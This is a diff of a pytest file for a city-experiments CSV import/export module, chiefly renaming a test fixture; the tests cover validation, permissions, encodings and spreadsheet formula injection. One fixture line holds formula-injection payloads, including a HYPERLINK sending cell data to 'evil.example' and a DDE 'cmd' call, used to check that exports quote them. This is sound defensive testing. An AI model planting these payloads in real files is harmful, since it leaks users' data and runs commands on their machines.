@@ -51,9 +51,9 @@ def write(rows: list[dict[str, str]]) -> str:
     return results_csv.to_csv(rows)
 
 
-def test_export_has_the_documented_columns(world):
-    experiment = make_experiment(world)
-    text = results_csv.export_city(world["lag_member"], world.city)
+def test_export_has_the_documented_columns(small_world):
+    experiment = make_experiment(small_world)
+    text = results_csv.export_city(small_world["lag_member"], small_world.city)
     assert text.splitlines()[0] == ",".join(results_csv.COLUMNS)
     rows = rows_of(text)
     assert [r["value"] for r in rows] == ["12.5", "30", "41.25", ""]
@@ -62,24 +62,24 @@ def test_export_has_the_documented_columns(world):
     assert {r["entry_id"] for r in rows} == {e.id for e in experiment.results}
 
 
-def test_round_trip_export_then_import_changes_nothing(world):
-    experiment = make_experiment(world)
-    text = results_csv.export_city(world["lag_member"], world.city)
-    preview = results_csv.preview(world["lag_member"], text.encode("utf-8"))
+def test_round_trip_export_then_import_changes_nothing(small_world):
+    experiment = make_experiment(small_world)
+    text = results_csv.export_city(small_world["lag_member"], small_world.city)
+    preview = results_csv.preview(small_world["lag_member"], text.encode("utf-8"))
     assert preview.valid
     assert preview.counts() == {"new": 0, "changed": 0, "unchanged": 4, "invalid": 0}
-    assert results_csv.apply(world["lag_member"], preview) == {"new": 0, "changed": 0}
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 0, "changed": 0}
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert after.revision == experiment.revision
     assert all(not e.history for e in after.results)
 
 
-def test_import_adds_new_rows_and_corrects_changed_ones(world):
-    experiment = make_experiment(world)
-    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
+def test_import_adds_new_rows_and_corrects_changed_ones(small_world):
+    experiment = make_experiment(small_world)
+    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
     rows[1]["value"] = "31"
     rows.append({**rows[0], "entry_id": "", "date": "2026-03-24", "value": "44", "note": "new"})
-    preview = results_csv.preview(world["lag_member"], write(rows))
+    preview = results_csv.preview(small_world["lag_member"], write(rows))
     assert [r.state for r in preview.rows] == [
         "unchanged",
         "changed",
@@ -87,41 +87,41 @@ def test_import_adds_new_rows_and_corrects_changed_ones(world):
         "unchanged",
         "new",
     ]
-    assert results_csv.apply(world["lag_member"], preview) == {"new": 1, "changed": 1}
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 1, "changed": 1}
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert [e.value for e in after.results] == [12.5, 31, 41.25, None, 44]
     assert after.results[1].history[0].value == 30  # the correction kept the previous value
     assert after.results[3].observation == "vendors asked why"
 
 
-def test_a_file_with_one_bad_row_is_refused_with_that_rows_message(world):
-    experiment = make_experiment(world)
-    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
+def test_a_file_with_one_bad_row_is_refused_with_that_rows_message(small_world):
+    experiment = make_experiment(small_world)
+    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
     rows.append({**rows[0], "entry_id": "", "value": "44"})
     rows.append({**rows[0], "entry_id": "", "value": "lots"})  # row 7 of the file
-    preview = results_csv.preview(world["lag_member"], write(rows))
+    preview = results_csv.preview(small_world["lag_member"], write(rows))
     assert not preview.valid
     assert preview.count("invalid") == 1
     assert results_csv.error_lines(preview) == ["Row 7, value: must be a number"]
     assert results_csv.error_lines(preview, "fr") == ["Ligne 7, value : doit être un nombre"]
     with pytest.raises(InvalidInput) as caught:
-        results_csv.apply(world["lag_member"], preview)
+        results_csv.apply(small_world["lag_member"], preview)
     assert caught.value.key == "csv.blocked"
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert len(after.results) == 4  # nothing written
 
 
-def test_importing_only_the_valid_rows_is_an_explicit_choice(world):
-    experiment = make_experiment(world)
-    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
+def test_importing_only_the_valid_rows_is_an_explicit_choice(small_world):
+    experiment = make_experiment(small_world)
+    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
     rows.append({**rows[0], "entry_id": "", "value": "44"})
     rows.append({**rows[0], "entry_id": "", "date": "31/02/2026", "value": "5"})
-    preview = results_csv.preview(world["lag_member"], write(rows))
-    assert results_csv.apply(world["lag_member"], preview, only_valid=True) == {
+    preview = results_csv.preview(small_world["lag_member"], write(rows))
+    assert results_csv.apply(small_world["lag_member"], preview, only_valid=True) == {
         "new": 1,
         "changed": 0,
     }
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert [e.value for e in after.results][-1] == 44
 
 
@@ -135,37 +135,37 @@ def test_importing_only_the_valid_rows_is_an_explicit_choice(world):
         ({"note": "$where"}, "note", "validation.operator"),
     ],
 )
-def test_each_row_error_names_its_field(world, change, field, key):
-    make_experiment(world)
-    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))[:1]
+def test_each_row_error_names_its_field(small_world, change, field, key):
+    make_experiment(small_world)
+    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))[:1]
     rows[0].update(change)
-    preview = results_csv.preview(world["lag_member"], write(rows))
+    preview = results_csv.preview(small_world["lag_member"], write(rows))
     (row,) = preview.rows
     assert row.row == 2
     assert (row.errors[0].field, row.errors[0].key) == (field, key)
 
 
-def test_duplicate_entry_rows_and_wrong_header_are_refused(world):
-    make_experiment(world)
-    rows = rows_of(results_csv.export_city(world["lag_member"], world.city))
-    preview = results_csv.preview(world["lag_member"], write([rows[0], rows[0]]))
+def test_duplicate_entry_rows_and_wrong_header_are_refused(small_world):
+    make_experiment(small_world)
+    rows = rows_of(results_csv.export_city(small_world["lag_member"], small_world.city))
+    preview = results_csv.preview(small_world["lag_member"], write([rows[0], rows[0]]))
     assert preview.rows[1].errors[0].key == "csv.error.duplicate"
-    bad = results_csv.preview(world["lag_member"], "id,value\n1,2\n")
+    bad = results_csv.preview(small_world["lag_member"], "id,value\n1,2\n")
     assert bad.file_errors[0].key == "csv.error.header"
     assert results_csv.error_lines(bad)[0].startswith("Row 1, header:")
-    assert results_csv.preview(world["lag_member"], b"\xff\xfe\x00").file_errors
+    assert results_csv.preview(small_world["lag_member"], b"\xff\xfe\x00").file_errors
 
 
-def test_experiments_of_other_cities_are_refused_per_row(world):
-    make_experiment(world, world.other_city)
-    rows = rows_of(results_csv.export_city(world["admin"], world.other_city))
-    preview = results_csv.preview(world["lag_member"], write(rows))
+def test_experiments_of_other_cities_are_refused_per_row(small_world):
+    make_experiment(small_world, small_world.other_city)
+    rows = rows_of(results_csv.export_city(small_world["admin"], small_world.other_city))
+    preview = results_csv.preview(small_world["lag_member"], write(rows))
     assert {e.key for r in preview.rows for e in r.errors} == {"csv.error.experiment"}
 
 
-def test_import_writes_follow_the_matrix(world):
+def test_import_writes_follow_the_matrix(small_world):
     def attempt(user, city):
-        experiment = make_experiment(world, city)
+        experiment = make_experiment(small_world, city)
         row = {
             "experiment_id": experiment.id,
             "experiment_title": "",
@@ -176,10 +176,10 @@ def test_import_writes_follow_the_matrix(world):
             "entry_id": "",
         }
         # The preview is built by someone allowed; the write checks the actor itself.
-        preview = results_csv.preview(world["admin"], write([row]))
+        preview = results_csv.preview(small_world["admin"], write([row]))
         results_csv.apply(user, preview)
 
-    check_matrix(world, "experiment.result.record", attempt)
+    check_matrix(small_world, "experiment.result.record", attempt)
 
 
 # --- spreadsheet formulas stay text, both ways ------------------------------------------------
@@ -187,14 +187,14 @@ def test_import_writes_follow_the_matrix(world):
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
 
 
-def test_formulas_are_quoted_in_the_export_and_come_back_unchanged(world):
-    experiment = make_experiment(world)
-    lag = world["lag_member"]
+def test_formulas_are_quoted_in_the_export_and_come_back_unchanged(small_world):
+    experiment = make_experiment(small_world)
+    lag = small_world["lag_member"]
     for note in [*FORMULAS, "-3 vendors left", "\tTabbed", "'=already quoted"]:
         experiments.record_result(
             lag, experiment.id, ResultInput(date=dt.date(2026, 3, 20), value=-3, note=note)
         )
-    text = results_csv.export_city(lag, world.city)
+    text = results_csv.export_city(lag, small_world.city)
     rows = rows_of(text)
     notes = [r["note"] for r in rows]
     # No cell a spreadsheet would run: each starts with the quote OWASP prescribes.
@@ -228,13 +228,13 @@ def test_the_cells_helper_follows_the_owasp_rule():
     assert text == "a,b\n'=1,-3\n"
 
 
-def test_no_new_results_for_an_experiment_that_is_done(world):
-    experiment = make_experiment(world)
-    lag = world["lag_member"]
-    rows = rows_of(results_csv.export_city(lag, world.city))
+def test_no_new_results_for_an_experiment_that_is_done(small_world):
+    experiment = make_experiment(small_world)
+    lag = small_world["lag_member"]
+    rows = rows_of(results_csv.export_city(lag, small_world.city))
     new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "1", "note": "late"}
     fixed = {**rows[1], "value": "31"}
-    experiments.set_status(world["admin"], experiment, "done")
+    experiments.set_status(small_world["admin"], experiment, "done")
 
     preview = results_csv.preview(lag, write([new_row, fixed]))
     assert [r.state for r in preview.rows] == ["invalid", "changed"]
@@ -247,22 +247,22 @@ def test_no_new_results_for_an_experiment_that_is_done(world):
     with pytest.raises(InvalidInput):
         results_csv.apply(lag, preview)
     assert results_csv.apply(lag, preview, only_valid=True) == {"new": 0, "changed": 1}
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert len(after.results) == len(experiment.results)
 
 
-def test_an_experiment_closed_after_the_preview_gets_no_new_row(world):
-    experiment = make_experiment(world)
-    lag = world["lag_member"]
-    rows = rows_of(results_csv.export_city(lag, world.city))
+def test_an_experiment_closed_after_the_preview_gets_no_new_row(small_world):
+    experiment = make_experiment(small_world)
+    lag = small_world["lag_member"]
+    rows = rows_of(results_csv.export_city(lag, small_world.city))
     new_row = {**rows[0], "entry_id": "", "date": "2026-03-25", "value": "99", "note": "late"}
     preview = results_csv.preview(lag, write([new_row]))
     assert preview.valid
-    experiments.set_status(world["admin"], experiment, "done")
+    experiments.set_status(small_world["admin"], experiment, "done")
     assert results_csv.apply(lag, preview) == {"new": 0, "changed": 0}
     assert preview.rows[0].state == "invalid"
     assert "running experiment" in results_csv.error_lines(preview)[0]
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     assert [e.value for e in after.results if e.value == 99] == []
 
 
@@ -275,8 +275,8 @@ def french_excel(rows: list[list[str]]) -> bytes:
     return "\r\n".join(lines).encode("cp1252") + b"\r\n"
 
 
-def test_a_french_excel_results_file_imports(world):
-    experiment = make_experiment(world)
+def test_a_french_excel_results_file_imports(small_world):
+    experiment = make_experiment(small_world)
     entry = experiment.results[1]  # 30 on 10 March
     data = french_excel(
         [
@@ -286,28 +286,28 @@ def test_a_french_excel_results_file_imports(world):
         ]
     )
     assert b"\xe9" in data  # "é" in Windows-1252: not UTF-8
-    preview = results_csv.preview(world["lag_member"], data)
+    preview = results_csv.preview(small_world["lag_member"], data)
     assert results_csv.error_lines(preview) == []
     assert preview.counts() == {"new": 2, "changed": 1, "unchanged": 0, "invalid": 0}
-    assert results_csv.apply(world["lag_member"], preview) == {"new": 2, "changed": 1}
-    after = experiments.get_experiment(world["admin"], experiment.id)
+    assert results_csv.apply(small_world["lag_member"], preview) == {"new": 2, "changed": 1}
+    after = experiments.get_experiment(small_world["admin"], experiment.id)
     by_date = {(e.date, e.value, e.note) for e in after.results}
     assert (dt.date(2026, 3, 24), 47.5, "marché d'été") in by_date
     assert (dt.date(2026, 3, 25), 1048.25, "") in by_date
     assert after.entry(entry.id)[1].value == 30.75
 
 
-def test_utf16_tab_separated_and_utf8_bom_files_import(world):
-    experiment = make_experiment(world)
+def test_utf16_tab_separated_and_utf8_bom_files_import(small_world):
+    experiment = make_experiment(small_world)
     header = "\t".join(results_csv.COLUMNS)
     row = "\t".join([experiment.id, "", "2026-03-20", "33,5", "", "Unicode « texte »", ""])
     utf16 = f"{header}\r\n{row}\r\n".encode("utf-16")  # with its BOM, as Excel saves it
     assert utf16[:2] in (b"\xff\xfe", b"\xfe\xff")
-    preview = results_csv.preview(world["lag_member"], utf16)
+    preview = results_csv.preview(small_world["lag_member"], utf16)
     assert preview.valid and preview.counts()["new"] == 1
     assert preview.rows[0].data.value == 33.5
     bom = "\ufeff" + ",".join(results_csv.COLUMNS) + f"\n{experiment.id},,2026-03-21,34,,,\n"
-    assert results_csv.preview(world["lag_member"], bom.encode("utf-8")).valid
+    assert results_csv.preview(small_world["lag_member"], bom.encode("utf-8")).valid
 
 
 @pytest.mark.parametrize(
@@ -342,20 +342,20 @@ def test_dates_day_first_or_iso(written, read):
     assert results_csv.date_text(written) == read
 
 
-def test_a_header_that_does_not_match_names_the_separator(readonly_world):
+def test_a_header_that_does_not_match_names_the_separator(small_world):
     text = "experiment;date;value\r\nx;15/03/2026;1\r\n"
-    preview = results_csv.preview(readonly_world["lag_member"], text.encode("cp1252"))
+    preview = results_csv.preview(small_world["lag_member"], text.encode("cp1252"))
     (line,) = results_csv.error_lines(preview)
     assert "«;»" in line and "experiment_id;experiment_title;date" in line
     (line_fr,) = results_csv.error_lines(preview, "fr")
     assert "«;»" in line_fr and line_fr.startswith("Ligne 1")
 
 
-def test_a_cell_over_128_kb_gets_a_message_not_a_traceback(world):
-    experiment = make_experiment(world)
+def test_a_cell_over_128_kb_gets_a_message_not_a_traceback(small_world):
+    experiment = make_experiment(small_world)
     huge = "x" * (results_csv.FIELD_MAX + 10)
     text = ",".join(results_csv.COLUMNS) + f"\n{experiment.id},,2026-03-20,1,,{huge},\n"
-    preview = results_csv.preview(world["lag_member"], text.encode("utf-8"))
+    preview = results_csv.preview(small_world["lag_member"], text.encode("utf-8"))
     assert not preview.valid
     (line,) = results_csv.error_lines(preview)
     assert "128 KB" in line
@@ -365,8 +365,8 @@ def test_a_cell_over_128_kb_gets_a_message_not_a_traceback(world):
 KEY_LIKE = re.compile(r"\b[a-z_]+\.[a-z_]+(\.[a-z_]+)*\b")
 
 
-def test_error_lines_never_show_a_message_key(world):
-    experiment = make_experiment(world)
+def test_error_lines_never_show_a_message_key(small_world):
+    experiment = make_experiment(small_world)
     bad_cells = [
         ("date", "tomorrow"),
         ("date", "31/02/2026"),
@@ -388,7 +388,7 @@ def test_error_lines_never_show_a_message_key(world):
         row[field_name] = value
         rows.append(row)
     text = write(rows)
-    preview = results_csv.preview(world["lag_member"], text)
+    preview = results_csv.preview(small_world["lag_member"], text)
     assert preview.count("invalid") == len(bad_cells)
     for lang in ("en", "fr"):
         lines = results_csv.error_lines(preview, lang)
@@ -414,11 +414,11 @@ def test_an_error_type_without_words_falls_back_to_a_sentence():
 # --- the template: every experiment one may record for ----------------------------------------
 
 
-def test_the_template_lists_every_experiment_one_may_record_for(world):
-    lead = world["city_lead"]
+def test_the_template_lists_every_experiment_one_may_record_for(small_world):
+    lead = small_world["city_lead"]
     without_entries = experiments.create_experiment(
-        world["admin"],
-        world.city,
+        small_world["admin"],
+        small_world.city,
         ExperimentCreate(
             title="Nobody measured this yet",
             metric="visits",
@@ -429,8 +429,10 @@ def test_the_template_lists_every_experiment_one_may_record_for(world):
             status="running",
         ),
     )
-    make_experiment(world, world.other_city)  # not the lead's city
-    exported = {r["experiment_id"] for r in rows_of(results_csv.export_city(lead, world.city))}
+    make_experiment(small_world, small_world.other_city)  # not the lead's city
+    exported = {
+        r["experiment_id"] for r in rows_of(results_csv.export_city(lead, small_world.city))
+    }
     assert without_entries.id not in exported  # why the template exists
     rows = rows_of(results_csv.template(lead))
     ids = {r["experiment_id"] for r in rows}
